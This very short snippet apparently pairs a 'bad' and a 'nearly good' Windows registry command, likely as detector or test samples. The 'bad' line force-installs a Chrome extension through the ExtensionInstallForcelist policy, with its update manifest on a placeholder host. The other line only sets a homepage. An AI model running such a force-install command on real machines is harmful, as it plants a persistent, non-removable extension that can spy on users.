:: bad: forced on Windows
reg add HKLM\SOFTWARE\Policies\Google\Chrome\ExtensionInstallForcelist /v 1 /d "abcdefghijklmnop;https://x.example/u.xml" /f
:: good: nearly: another policy
reg add HKLM\SOFTWARE\Policies\Google\Chrome /v HomepageLocation /d https://intranet.example /f
